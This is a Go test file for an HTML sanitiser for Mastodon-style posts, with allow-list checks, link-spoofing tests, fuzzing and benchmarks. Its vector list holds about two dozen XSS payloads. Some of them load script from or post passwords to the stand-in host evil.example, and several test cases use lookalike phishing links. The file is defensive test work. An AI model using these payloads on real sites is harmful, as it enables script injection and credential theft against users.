package text

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// vectors are the attacks that sanitising must take the sting out of.
// Spec: TX4
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14; java&#115;cript:alert(1)">x</a>`,
	"<a href=\"jav\tascript:alert(1)\">x</a>",
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<p onclick="alert(1)" onmouseover=alert(1)>x</p>`,
	`<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`,
	`<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>`,
	`<style>@import '//evil.example/x.css'; body{display:none}</style>`,
	`<link rel=stylesheet href="//evil.example/x.css"><base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<span id="csrf" name="attributes" class="modal button">x</span>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<p>"><svg/onload=alert(1)//</p><textarea><img src=x onerror=alert(1)></textarea>`,
	`<details open ontoggle=alert(1)><video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
	"<a href=\"https://ok.example\" target=_blank rel=opener onfocus=alert(1) autofocus>x</a><ma\x00rquee onstart=alert(1)>",
}

func TestTX04SanitizeTakesOutEveryVector(t *testing.T) {
	if len(vectors) != 25 {
		t.Fatalf("%d vectors", len(vectors))
	}
	for _, v := range vectors {
		for _, src := range []string{v, "<p>" + v + "</p>", "<blockquote><ul><li>" + v, "é " + v + " <b>fin</b>"} {
			checkSafe(t, src, Sanitize(src))
		}
	}
}

// checkSafe reads out as a browser would, inside a page, and says what of it
// the allow-list does not hold, or what got out of its element.
func checkSafe(t *testing.T, src, out string) {
	t.Helper()
	page := `<ul><li><div id="post">` + out + `</div><i id="after"></i></li></ul>`
	body := &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body}
	nodes, err := html.ParseFragment(strings.NewReader(page), body)
	if err != nil {
		t.Fatal(err)
	}
	if len(nodes) != 1 || nodes[0].FirstChild == nil || nodes[0].FirstChild != nodes[0].LastChild {
		t.Fatalf("Sanitize(%q) = %q leaves its place in the page", src, out)
	}
	li := nodes[0].FirstChild
	post, after := li.FirstChild, li.LastChild
	if post.Data != "div" || after.Data != "i" || post.NextSibling != after || len(after.Attr) != 1 {
		t.Fatalf("Sanitize(%q) = %q leaves its element", src, out)
	}
	var b strings.Builder
	var walk func(n *html.Node, depth int)
	walk = func(n *html.Node, depth int) {
		if n.Type == html.CommentNode || n.Namespace != "" {
			t.Errorf("Sanitize(%q) = %q holds a comment or foreign element", src, out)
		}
		if n.Type == html.ElementNode {
			el, ok := elements[n.Data]
			if n.Data != "br" && (!ok || el.name != n.Data) {
				t.Errorf("Sanitize(%q) = %q holds <%s>", src, out, n.Data)
			}
			if depth > maxDepth {
				t.Errorf("Sanitize(%q) nests %d deep", src, depth)
			}
			slices.SortFunc(n.Attr, func(a, b html.Attribute) int { // the order in which writeTag writes them
				order := []string{"href", "class", "rel", "translate"}
				return slices.Index(order, a.Key) - slices.Index(order, b.Key)
			})
			for _, a := range n.Attr {
				switch {
				case a.Key == "class":
					for _, c := range strings.Fields(a.Val) {
						if !classes[c] {
							t.Errorf("Sanitize(%q) = %q has class %q", src, out, c)
						}
					}
				case a.Key == "translate" && a.Val == "no":
				case a.Key == "href" && n.Data == "a":
					if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "mailto:") {
						t.Errorf("Sanitize(%q) = %q links to %q", src, out, a.Val)
					}
				case a.Key == "rel" && n.Data == "a" && a.Val == "nofollow noopener noreferrer":
				default:
					t.Errorf("Sanitize(%q) = %q has %s=%q", src, out, a.Key, a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, depth+1)
		}
	}
	for c := post.FirstChild; c != nil; c = c.NextSibling {
		walk(c, 1)
		if err := html.Render(&b, c); err != nil {
			t.Fatal(err)
		}
	}
	// What the browser built is what was written: no repair took place.
	if got := strings.ReplaceAll(b.String(), "<br/>", "<br>"); got != out {
		t.Errorf("Sanitize(%q)\n  wrote %q\n  a browser builds %q", src, out, got)
	}
	if again := Sanitize(out); again != out {
		t.Errorf("Sanitize(%q)\n  once  %q\n  twice %q", src, out, again)
	}
}

func TestSanitize(t *testing.T) {
	const rel = ` rel="nofollow noopener noreferrer"`
	for _, c := range []struct{ name, in, want string }{
		{"plain words", "Bonjour à tous", "Bonjour à tous"},
		{"Mastodon's mention", `<p><span class="h-card" translate="no"><a href="https://m.example/@ana" class="u-url mention">@<span>ana</span></a></span> oui</p>`,
			`<p><span class="h-card" translate="no"><a href="https://m.example/@ana" class="u-url mention"` + rel + `>@<span>ana</span></a></span> oui</p>`},
		{"Mastodon's link", `<a href="https://www.lemonde.fr/politique/article/2026" target="_blank" rel="nofollow noopener" translate="no"><span class="invisible">https://www.</span><span class="ellipsis">lemonde.fr/politique/article/2</span><span class="invisible">026</span></a>`,
			`<a href="https://www.lemonde.fr/politique/article/2026"` + rel + ` translate="no"><span class="invisible">https://www.</span><span class="ellipsis">lemonde.fr/politique/article/2</span><span class="invisible">026</span></a>`},
		{"Mastodon's short link", `<a href="https://a.example/x"><span class="invisible">https://</span><span class="">a.example/x</span><span class="invisible"></span></a>`,
			`<a href="https://a.example/x"` + rel + `><span class="invisible">https://</span><span>a.example/x</span><span class="invisible"></span></a>`},
		{"hidden host", `<a href="https://evil.example"><span class="invisible">https://evil.example</span>banque.example</a>`,
			`<a href="https://evil.example"` + rel + `><span>https://evil.example</span>banque.example [evil.example]</a>`},
		{"half of the host hidden", `<a href="https://banque.example.evil.example/"><span class="invisible">https://</span><span class="ellipsis">banque.example</span><span class="invisible">.evil.example/</span></a>`,
			`<a href="https://banque.example.evil.example/"` + rel + `><span>https://</span><span class="ellipsis">banque.example</span><span>.evil.example/</span></a>`},
		{"hidden outside of a link", `<p><span class="invisible">secret</span></p>`, `<p><span>secret</span></p>`},
		{"another host in words", `<a href="https://evil.example/x">https://banque.example/x</a>`, `<a href="https://evil.example/x"` + rel + `>https://banque.example/x [evil.example]</a>`},
		{"another host cut by markup", `<a href="https://evil.example/x">ban<em>que</em>.example</a>`, `<a href="https://evil.example/x"` + rel + `>ban<em>que</em>.example [evil.example]</a>`},
		{"words", `<a href="https://evil.example/x">notre programme</a>`, `<a href="https://evil.example/x"` + rel + `>notre programme</a>`},
		{"mail", `<a href="mailto:bureau@section.example">bureau@section.example</a>`, `<a href="mailto:bureau@section.example"` + rel + `>bureau@section.example</a>`},
		{"another mail", `<a href="mailto:x@evil.example">bureau@section.example</a>`, `<a href="mailto:x@evil.example"` + rel + `>bureau@section.example [x@evil.example]</a>`},
		{"empty link", `<a href="https://a.example/x"><img src="y"></a>`, `<a href="https://a.example/x"` + rel + `>[a.example]</a>`},
		{"name in the URL", `<a href="https://banque.example@evil.example/">x</a>`, `x`},
		{"no host", `<a href="https:evil">x</a> <a href="//evil.example">y</a> <a href="/z">z</a>`, `x y z`},
		{"unclosed", `<blockquote><p>a <b>b`, `<blockquote><p>a <strong>b</strong></p></blockquote>`},
		{"closing what is not ours", `</div></p></li></ul></blockquote>x`, `x`},
		{"item out of a list", `<li>x</li>`, `x`},
		{"lists", `<ul><li>a<li>b<ol><li>c</ol></ul>`, `<ul><li>a</li><li>b<ol><li>c</li></ol></li></ul>`},
		{"link in a link", `<a href="https://a.example">a<a href="https://b.example">b</a></a>`,
			`<a href="https://a.example"` + rel + `>a</a><a href="https://b.example"` + rel + `>b</a>`},
		{"classes", `<span class="mention evil h-card">x</span><p class="quote-inline">RE: y</p>`, `<span class="mention h-card">x</span><p class="quote-inline">RE: y</p>`},
		{"other tags", `<div>a</div><table><tr><td>b</td></tr></table><h2>c</h2>`, `ab<h2>c</h2>`},
		{"invalid bytes", "a\xff\xfeb\x00c", "a\ufffdbc"},
		{"control by reference", "<p>a&#1;&#127;b</p>", "<p>ab</p>"},
		{"pre", "<pre>\n\nx\n y</pre>", "<pre>x\n y</pre>"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := Sanitize(c.in)
			if got != c.want {
				t.Errorf("Sanitize(%q)\n got %q\nwant %q", c.in, got, c.want)
			}
			checkSafe(t, c.in, got)
		})
	}
}

func TestTX04SanitizeBoundsDepth(t *testing.T) {
	out := Sanitize(strings.Repeat("<blockquote>", 50_000) + "x")
	if n := strings.Count(out, "<blockquote>"); n != maxDepth {
		t.Errorf("depth %d, want %d", n, maxDepth)
	}
	checkSafe(t, "deep", out)
}

func FuzzSanitize(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	f.Add(`<ul><li>a<li><blockquote><li>b</ul></p><pre>` + "\n" + `x<a href="https://a.example">b.example <b>c<p>`)
	f.Fuzz(func(t *testing.T, src string) {
		checkSafe(t, src, Sanitize(src))
		Plain(src)
	})
}

func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"Caf\u00e9 &amp; th\u00e9":                                                     "Café & thé",
		`<p>Une ligne<br>une autre</p><p>Fin</p>`:                                      "Une ligne\nune autre\n\nFin",
		`<ul><li>a</li><li>b</li></ul><p>c</p>`:                                        "- a\n- b\n\nc",
		`x<script>alert(1)</script><style>p{}</style>y`:                                "xy",
		`<a href="https://a.example"><span class="invisible">https://</span>a.example`: "https://a.example",
		`a &lt;b&gt; c`:             "a <b> c",
		`<svg><svg>x</svg>y</svg>z`: "z",
	} {
		if got := Plain(in); got != want {
			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
		}
	}
}

// A post as Mastodon writes it, and a long one from a blog.
var (
	samplePost = `<p><span class="h-card" translate="no"><a href="https://m.example/@ana" class="u-url mention">@<span>ana</span></a></span> Bonjour, la réunion de <a href="https://m.example/tags/section" class="mention hashtag" rel="tag">#<span>section</span></a> est samedi : <a href="https://www.section.example/agenda/2026/12/12" target="_blank" rel="nofollow noopener" translate="no"><span class="invisible">https://www.</span><span class="ellipsis">section.example/agenda/2026/12</span><span class="invisible">/12</span></a></p><p>À samedi !</p>`
	sampleLong = "<h2>Compte rendu</h2>" + strings.Repeat("<p>Un paragraphe <strong>assez long</strong> avec <em>des mots</em> &amp; une <a href=\"https://a.example/page\">adresse</a>.</p><ul><li>un</li><li>deux</li></ul>", 40)
)

func BenchmarkSanitizePost(b *testing.B) {
	Sanitize(samplePost)
	b.SetBytes(int64(len(samplePost)))
	for b.Loop() {
		Sanitize(samplePost)
	}
}

func BenchmarkSanitizeLong(b *testing.B) {
	Sanitize(sampleLong)
	b.SetBytes(int64(len(sampleLong)))
	for b.Loop() {
		Sanitize(sampleLong)
	}
}

func BenchmarkSanitizeWords(b *testing.B) {
	for b.Loop() {
		Sanitize("Bonjour à tous, la réunion est samedi.")
	}
}
